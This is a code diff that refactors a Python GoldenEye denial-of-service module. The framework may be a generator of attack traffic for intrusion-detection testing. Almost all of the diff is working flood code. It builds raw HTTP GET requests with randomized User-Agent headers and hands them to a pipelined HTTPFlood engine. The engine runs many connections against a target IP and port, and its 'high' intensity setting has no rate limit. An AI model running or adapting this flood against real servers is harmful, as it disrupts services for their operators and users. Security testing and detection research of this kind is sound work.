@@ -1,10 +1,9 @@
 """GoldenEye DoS attack implementation"""
 
-import asyncio
-import aiohttp
 import logging
 import random
 from .base_attack import BaseAttack
+from .http_flood import HTTPFlood
 
 logger = logging.getLogger(__name__)
 
@@ -12,51 +11,43 @@ logger = logging.getLogger(__name__)
 class DoSGoldenEye(BaseAttack):
     """GoldenEye DoS attack - HTTP/HTTPS flood"""
     
+    DEFAULT_PORT = 80
+    INTENSITY_RATES = {'low': 50, 'medium': 200, 'high': None}
+    
     def get_attack_type(self) -> str:
         return "DoS attacks-GoldenEye"
     
-    def get_default_port(self) -> int:
-        return 80
-    
-    async def _send_request(self, session, url):
-        """Send HTTP request"""
-        headers = {
-            'User-Agent': f'Mozilla/5.0 (compatible; {random.randint(1, 10000)})',
-            'Accept': '*/*',
-            'Accept-Language': 'en-US,en;q=0.5',
-            'Accept-Encoding': 'gzip, deflate',
-            'Connection': 'keep-alive'
-        }
-        
-        try:
-            async with session.get(url, headers=headers, timeout=5) as response:
-                await response.read()
-                self.packets_sent += 1
-        except Exception as e:
-            logger.debug(f"Request failed: {e}")
+    def _render_request(self) -> bytes:
+        """HTTP request with a randomized User-Agent"""
+        return (
+            f"GET / HTTP/1.1\r\n"
+            f"Host: {self.target_ip}\r\n"
+            f"User-Agent: Mozilla/5.0 (compatible; {random.randint(1, 10000)})\r\n"
+            f"Accept: */*\r\n"
+            f"Accept-Language: en-US,en;q=0.5\r\n"
+            f"Accept-Encoding: gzip, deflate\r\n"
+            f"Connection: keep-alive\r\n"
+            f"\r\n"
+        ).encode()
     
     async def _execute_attack(self):
         """Execute GoldenEye attack"""
         port = self.target_port or self.get_default_port()
-        duration = self.parameters.get('duration', 300)
-        workers = self.parameters.get('workers', 50)
+        duration = self.parameters.get('duration') or 300
+        # 'workers' now selects worker processes (see ProcessAttack)
+        connections = self.parameters.get('connections', 50)
         
-        url = f"http://{self.target_ip}:{port}/"
+        logger.info(f"GoldenEye: Attacking http://{self.target_ip}:{port}/ with {connections} connections")
         
-        logger.info(f"GoldenEye: Attacking {url} with {workers} workers")
+        flood = HTTPFlood(
+            self.target_ip,
+            port,
+            self._render_request,
+            self.rate,
+            self.record_sent,
+            connections=connections,
+            pipeline=self.parameters.get('pipeline', 16)
+        )
+        await flood.run(duration)
         
-        connector = aiohttp.TCPConnector(limit=workers)
-        async with aiohttp.ClientSession(connector=connector) as session:
-            start_time = asyncio.get_event_loop().time()
-            
-            while (asyncio.get_event_loop().time() - start_time) < duration:
-                tasks = [self._send_request(session, url) for _ in range(workers)]
-                await asyncio.gather(*tasks, return_exceptions=True)
-                
-                if self.packets_sent % 1000 == 0:
-                    logger.info(f"GoldenEye: Sent {self.packets_sent} requests")
-                
-                await asyncio.sleep(0.05)
-        
-        logger.info(f"GoldenEye: Attack complete. Sent {self.packets_sent} requests")
-
+        logger.info(f"GoldenEye: Attack complete. Sent {self.packets_sent} requests ({flood.get_stats()})")